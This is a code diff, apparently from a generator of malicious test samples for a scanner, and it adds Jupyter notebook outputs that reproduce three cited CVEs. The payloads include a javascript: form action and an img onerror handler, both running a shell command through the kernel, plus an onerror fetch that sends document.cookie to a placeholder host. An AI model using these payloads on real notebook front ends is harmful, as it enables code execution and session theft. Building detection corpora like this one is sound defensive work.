@@ -134,6 +134,14 @@ def packages(corpus):
     corpus.add("keras", "keras-broken-configuration", "model.keras", broken, "configuration that is no JSON beside a pickle")
 
 
+def advisories():
+    """Yields slug, technique, page, advisory: how front ends came to run the scripts of outputs."""
+    run = f"Jupyter.notebook.kernel.execute('import os; os.system(\"{SHELL}\")')".replace('"', "&quot;")
+    yield "form-action", "action of a form", f'<form id="f" action="javascript:{run}"></form><button form="f">Show the table</button>', "CVE-2021-32797"
+    yield "sanitizer", "markup that the sanitizer passed on", f'<math><mtext><img src="x" onerror="{run}"></mtext></math>', "CVE-2021-32798"
+    yield "converted", "output shown as a page by nbconvert", f'<img src="x" onerror="fetch(\'//{HOST}/?\' + document.cookie)">', "CVE-2021-32862"
+
+
 def build(corpus):
     """Adds the samples."""
     packages(corpus)
@@ -141,6 +149,8 @@ def build(corpus):
         corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook(cells).encode(), technique, textual=True)
     for slug, technique, data in outputs():
         corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook([("plot()", data)]).encode(), technique, textual=True)
+    for slug, technique, page, advisory in advisories():
+        corpus.add(GROUP, "notebook-" + slug, "run.ipynb", notebook([("plot()", {"text/html": page})]).encode(), technique, advisory, textual=True)
     attack = ["import os", f"os.system({SHELL!r})"]
     corpus.add(GROUP, "notebook-version-three", "run.ipynb", notebook(attack, version=3).encode(), "old version", textual=True)
     corpus.add(GROUP, "notebook-other-language", "run.ipynb", notebook(attack, {"kernelspec": {"name": "python3", "language": "R"}}).encode(), "language that the kernel is not", textual=True)
